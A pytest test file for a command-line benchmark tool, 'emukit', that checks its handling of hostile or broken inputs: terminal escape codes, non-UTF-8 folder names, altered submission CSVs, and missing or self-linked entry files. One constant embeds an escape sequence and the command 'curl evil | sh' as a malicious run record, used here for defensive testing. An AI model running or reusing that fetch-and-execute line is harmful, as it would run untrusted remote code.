"""What a stranger's folder or file does to a command: escapes that a terminal obeys, another CSV than the entry's."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

EVIL = "\x1b]0;owned\x07curl evil | sh; emukit train linear"


@pytest.fixture
def entry(emukit, linear_run, demo_store) -> Path:
    assert emukit("submit", linear_run, "-q", "--out", "submissions/a", "--data", demo_store).code == 0
    return Path("submissions/a/submission.csv")


def test_a_command_of_a_record_is_neither_obeyed_nor_to_be_pasted(emukit, linear_run, demo_store):
    folder = Path("\x1b[31mred")
    shutil.copytree(linear_run, folder)
    record = json.loads((folder / "run.json").read_text())
    (folder / "run.json").write_text(json.dumps(record | {"state": "training", "command": EVIL}))
    for words in (["evaluate", folder, "--data", demo_store], ["runs"], ["runs", "list", "."], ["leaderboard", "."]):
        answer = emukit(*words)
        assert "\x1b" not in answer.out + answer.err, words
        assert "curl" not in answer.err
    assert "\\x1b[31mred" in emukit("evaluate", folder, "--data", demo_store).err


def test_a_folder_whose_name_is_not_utf8_is_listed_ranked_and_reported(emukit, linear_run, undrawn):
    name = os.fsdecode(b"r\xff")
    shutil.copytree(linear_run, Path("runs") / name)
    for words in (["runs"], ["leaderboard"], ["report", "-q"]):
        answer = emukit(*words)
        assert answer.code == 0, (words, answer.err)
    assert "runs/r\\xff" in emukit("runs").out
    assert len(list(Path("report/entries").iterdir())) == 1


def test_another_csv_than_the_entry_is_of_is_said(emukit, entry, demo_store):
    assert emukit("check-submission", entry, "--data", demo_store, "-q").code == 0
    lines = entry.read_text().splitlines(keepends=True)
    name, _, value = lines[7].partition(",")
    entry.write_text("".join([*lines[:7], f"{name},{float(value) + 0.5}\n", *lines[8:]]))
    checked = emukit("check-submission", entry, "--data", demo_store, "-q")
    assert checked.code == 1
    assert checked.out.startswith("1. digest: ")
    scored = emukit("score", entry, demo_store, "-q")
    assert scored.code == 2
    assert "is not the CSV that submissions/a/entry.toml is of" in scored.err
    # Elsewhere it is a CSV like any other.
    alone = entry.rename("alone.csv")
    assert emukit("check-submission", alone, "--data", demo_store, "-q").code == 0


@pytest.mark.parametrize("left", ["nothing", "a link to itself", "a pipe"])
def test_an_entry_that_lost_its_file_is_passed_over(emukit, linear_run, demo_store, left):
    """Its CSV and its score are there still: it is named, and the others are listed."""
    for name in ("whole", "lost"):
        assert emukit("submit", linear_run, "--data", demo_store, "--out", f"entries/{name}", "-q").code == 0
        assert emukit("score", f"entries/{name}/submission.csv", demo_store, "--save", "-q").code == 0
    path = Path("entries/lost/entry.toml")
    path.unlink()
    if left == "a link to itself":
        path.symlink_to(path.name)
    elif left == "a pipe":
        os.mkfifo(path)
    answer = emukit("leaderboard", "entries", "--no-published", "--format", "json")
    assert answer.code == 0, answer.err
    assert [row["name"] for row in json.loads(answer.out) if row["kind"] == "submission"] == ["whole"]
    assert "entries/lost/entry.toml" in answer.err


def test_a_score_that_is_a_link_to_itself_passes_for_none(emukit, linear_run, demo_store):
    for name in ("whole", "linked"):
        assert emukit("submit", linear_run, "--data", demo_store, "--out", f"entries/{name}", "-q").code == 0
    path = Path("entries/linked/score.json")
    path.symlink_to(path.name)
    answer = emukit("leaderboard", "entries", "--no-published", "--format", "json")
    assert answer.code == 0, answer.err
    assert [row["name"] for row in json.loads(answer.out) if row["kind"] == "submission"] == ["whole"]
    assert "entries/linked/score.json cannot be read" in answer.err


def test_submission_is_not_checked_against_the_grid_of_another_benchmark(emukit, demo_store, linear_run, tmp_path):
    """Without --data the demo climate would find every ID of a submission wrong, one after the other."""
    assert emukit("submit", linear_run, "--out", "mine", "--data", demo_store, "-q").code == 0
    answer = emukit("check-submission", "mine/submission.csv", "-q")
    assert answer.code == 2
    assert "mine/submission.csv is not of the store demo" in answer.err
    assert "8x12" in answer.err
    assert "--data" in answer.err
    # The same climate with its months shown is the same benchmark, though its digest is another.
    assert emukit("data", "demo", "open.zarr", "--grid", "8x12", "--members", "2", "--reveal", "-q").code == 0
    assert emukit("check-submission", "mine/submission.csv", "--data", "open.zarr", "-q").code == 0
